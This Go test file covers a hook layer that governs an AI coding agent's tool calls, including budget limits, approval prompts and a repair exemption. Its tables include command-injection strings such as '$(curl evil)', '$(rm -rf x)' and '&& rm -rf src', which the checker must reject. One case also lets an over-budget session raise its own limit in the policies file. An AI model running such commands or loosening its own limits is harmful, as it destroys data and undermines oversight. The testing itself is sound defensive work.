package hooks

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"miam/budgets"
	"miam/hooks/config"
	"miam/hooks/policies"
)

func TestIsPoliciesCommand(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{"miam policies reset-session", true},
		{"miam policies status --json", true},
		{"miam  policies   reset-session --session-id abc", true},
		{"/usr/local/bin/miam policies reset-session", true},
		{"$HOME/go/bin/miam policies status", true},
		{"\"$HOME/go/bin/miam\" policies status", true},
		{"go run ./cmd/miam policies reset-session", true},
		{"go run -race miam/cmd/miam policies status", true},
		{"cd /p && miam policies reset-session", true},
		{"miam policies status 2>&1", true},
		{"miam policies status >/dev/null", true},
		{"miam policies status || miam policies reset-session", true},
		{"echo miam policies", false},
		{"echo 'miam policies reset-session'", false},
		{"miam exception securite", false},
		{"miam", false},
		{"miam policies status && rm -rf src", false},
		{"miam policies status; touch x", false},
		{"miam policies status > out.txt", false},
		{"miam policies status | tee log", false},
		{"$(curl evil) policies status", false},
		{"miam policies $(rm -rf x)", false},
		{"X=1 miam policies status", false},
		{"miam policies status &", false},
		{"bash -c 'miam policies reset-session'", false},
		{"go run ./cmd/other policies status", false},
		{"go build ./cmd/miam policies", false},
		{"notmiam policies status", false},
		{"miam policies 'unterminated", false},
		{"", false},
	}
	for _, tc := range tests {
		if got := isPoliciesCommand(tc.cmd); got != tc.want {
			t.Errorf("isPoliciesCommand(%q) = %v, want %v", tc.cmd, got, tc.want)
		}
	}
}

func TestPolicyCall(t *testing.T) {
	env := Env{Project: "/p"}
	tests := []struct {
		name                       string
		ev                         Event
		readOnly, mutating, repair bool
		path                       string
	}{
		{"read", preTool("Read", ReadInput{FilePath: "/p/a.go"}, ""), true, false, false, "a.go"},
		{"bash read-only", preTool("Bash", BashInput{Command: "git status"}, ""), true, false, false, ""},
		{"bash mutating", preTool("Bash", BashInput{Command: "touch x"}, ""), false, true, false, ""},
		{"bash policies", preTool("Bash", BashInput{Command: "miam policies reset-session"}, ""), false, true, true, ""},
		{"edit policies", preTool("Edit", EditInput{FilePath: "/p/.miam/policies.yaml"}, ""), false, true, true, ".miam/policies.yaml"},
		{"write state", preTool("Write", WriteInput{FilePath: "/p/.miam/state/session-s.json"}, ""), false, true, true, ".miam/state/session-s.json"},
		{"write other state", preTool("Write", WriteInput{FilePath: "/p/.miam/state/other.json"}, ""), false, true, false, ".miam/state/other.json"},
		{"policies outside", preTool("Write", WriteInput{FilePath: "/q/.miam/policies.yaml"}, ""), false, true, false, "/q/.miam/policies.yaml"},
		{"mcp", preTool("mcp__x__y", map[string]any{}, ""), false, false, false, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			c := policyCall(tc.ev, env)
			if c.ReadOnly != tc.readOnly || c.Mutating != tc.mutating || c.Repair != tc.repair || c.Path != tc.path {
				t.Errorf("got read-only %v mutating %v repair %v path %q", c.ReadOnly, c.Mutating, c.Repair, c.Path)
			}
		})
	}
}

// rulesOff is a config with every delegation rule off, so only governance
// speaks.
func rulesOff() config.Config {
	var c config.Config
	r := &c.Rules
	for _, m := range []*config.Mode{&r.Tests, &r.WriteBudget, &r.Commit, &r.ShellWrites, &r.ReadBudget, &r.Plan, &r.Docs, &r.Wait, &r.VerdictRead} {
		*m = config.Off
	}
	return c
}

func policiesEnv(t *testing.T, yaml string) Env {
	t.Helper()
	set, err := policies.Decode(".miam/policies.yaml", []byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	return Env{Config: rulesOff(), Project: "/p", Policies: &set, Now: time.Date(2026, 1, 2, 12, 0, 0, 0, time.UTC)}
}

// TestRepairExemption: a session over its budget can still read, run `miam
// policies …` and edit the policies file or its state, and nothing else.
func TestRepairExemption(t *testing.T) {
	env := policiesEnv(t, "rules:\n  - id: budget\n    verdict_on_match: block\n    per_session: {max_tool_calls: 2, max_duration_min: 60}\n")
	st := budgets.Fresh("s")
	for _, cmd := range []string{"touch a", "touch b"} {
		var v Verdict
		if v, st = Decide(preTool("Bash", BashInput{Command: cmd}, ""), st, env); v.Decision != None {
			t.Fatalf("%s: %v %s", cmd, v.Decision, v.Reason)
		}
	}
	tests := []struct {
		name string
		ev   Event
		want Decision
	}{
		{"over budget", preTool("Bash", BashInput{Command: "touch c"}, ""), Deny},
		{"subagent shares it", preTool("Bash", BashInput{Command: "touch c"}, "agent-1"), Deny},
		{"reset-session", preTool("Bash", BashInput{Command: "miam policies reset-session"}, ""), None},
		{"absolute path", preTool("Bash", BashInput{Command: "/home/u/go/bin/miam policies status --json"}, ""), None},
		{"go run", preTool("Bash", BashInput{Command: "go run ./cmd/miam policies reset-session"}, ""), None},
		{"naming it is no exemption", preTool("Bash", BashInput{Command: "echo miam policies reset-session > notes.txt"}, ""), Deny},
		{"riding along is none", preTool("Bash", BashInput{Command: "miam policies status && touch d"}, ""), Deny},
		{"edit policies.yaml", preTool("Edit", EditInput{FilePath: "/p/.miam/policies.yaml", OldString: "2", NewString: "20"}, ""), None},
		{"write the state", preTool("Write", WriteInput{FilePath: "/p/.miam/state/session-s.json", Content: "{}"}, ""), None},
		{"write another file", preTool("Write", WriteInput{FilePath: "/p/notes.txt", Content: "x"}, ""), Deny},
		{"read", preTool("Read", ReadInput{FilePath: "/p/README.md"}, ""), None},
		{"read-only bash", preTool("Bash", BashInput{Command: "cat README.md | head"}, ""), None},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			v, _ := Decide(tc.ev, st, env)
			if v.Decision != tc.want {
				t.Errorf("%v (%s), want %v", v.Decision, v.Reason, tc.want)
			}
			if v.Decision == Deny && !strings.Contains(v.Reason, "miam policies reset-session") {
				t.Errorf("the deny does not name the remedy: %s", v.Reason)
			}
		})
	}
	// Past max_duration_min the same holds.
	env.Now = env.Now.Add(2 * time.Hour)
	if v, _ := Decide(preTool("Bash", BashInput{Command: "miam policies reset-session"}, ""), st, env); v.Decision != None {
		t.Errorf("reset-session past the duration cap: %v %s", v.Decision, v.Reason)
	}
	// And the repair calls were not counted.
	_, after := Decide(preTool("Bash", BashInput{Command: "miam policies status"}, ""), st, env)
	if after.Policies.Rules["budget"].ToolCalls != 2 {
		t.Errorf("a repair call was counted: %+v", after.Policies.Rules)
	}
}

// TestApprovalThroughDecide: ask, the user says yes (PostToolUse of a
// rewritten input under the same tool_use_id), then the identical call
// passes silently and another asks.
func TestApprovalThroughDecide(t *testing.T) {
	env := policiesEnv(t, "rules:\n  - id: push\n    tool_pattern: \"Bash(git push:*)\"\n    require_approval: true\n")
	st := budgets.Fresh("s")
	pre := func(id, cmd string) Event {
		return toolEvent(PreToolUse, "Bash", id, BashInput{Command: cmd, Description: "Push"})
	}
	v, st := Decide(pre("t1", "git push origin feature"), st, env)
	if v.Decision != Ask || !strings.Contains(v.Reason, "miam policy push") {
		t.Fatalf("first: %v %s", v.Decision, v.Reason)
	}
	post := toolEvent(PostToolUse, "Bash", "t1", BashInput{Command: "rtk git push origin feature"})
	post.Response = json.RawMessage(`{"stdout":"","stderr":""}`)
	_, st = Decide(post, st, env)
	if v, _ := Decide(pre("t2", "git push  origin feature"), st, env); v.Decision != Allow {
		t.Errorf("identical call: %v %s", v.Decision, v.Reason)
	}
	if v, _ := Decide(pre("t3", "git push origin main"), st, env); v.Decision != Ask {
		t.Errorf("another call: %v %s", v.Decision, v.Reason)
	}
}

func TestBrokenPoliciesFailOpen(t *testing.T) {
	env := Env{Config: rulesOff(), Project: "/p", PoliciesErr: errors.New("invalid policies: .miam/policies.yaml: line 3: unknown key \"x\"")}
	v, _ := Decide(preTool("Bash", BashInput{Command: "touch x"}, ""), budgets.Fresh("s"), env)
	if v.Decision != None || !strings.Contains(v.Context, `line 3: unknown key "x"`) {
		t.Errorf("got %v, context %q", v.Decision, v.Context)
	}
}

// A call a delegation rule refuses never runs: the policies do not count it.
func TestDeniedCallNotCounted(t *testing.T) {
	env := policiesEnv(t, "rules:\n  - id: budget\n    verdict_on_match: block\n    per_session: {max_tool_calls: 5}\n")
	env.Config.Rules.Commit = config.Deny
	_, st := Decide(preTool("Bash", BashInput{Command: "git commit -m x"}, ""), budgets.Fresh("s"), env)
	if st.Policies != nil && st.Policies.Rules["budget"].ToolCalls != 0 {
		t.Errorf("a denied commit was counted: %+v", st.Policies.Rules)
	}
}

// A call no rule names costs nothing: the policies neither count it nor
// touch the state.
func TestPoliciesIgnoreUnconcernedCalls(t *testing.T) {
	env := policiesEnv(t, "rules:\n  - id: push\n    tool_pattern: \"Bash(git push:*)\"\n    require_approval: true\n")
	ev := preTool("Read", ReadInput{FilePath: "/p/README.md"}, "")
	if PoliciesConcern(ev, env.Policies) {
		t.Error("a Read concerns a Bash-only set")
	}
	if _, st := Decide(ev, budgets.Fresh("s"), env); st.Policies != nil {
		t.Errorf("state touched: %+v", st.Policies)
	}
	if !PoliciesConcern(preTool("Bash", BashInput{Command: "ls"}, ""), env.Policies) {
		t.Error("a Bash call does concern it")
	}
	if !PoliciesConcern(ev, nil) {
		t.Error("a broken set concerns every call, to report its error")
	}
}
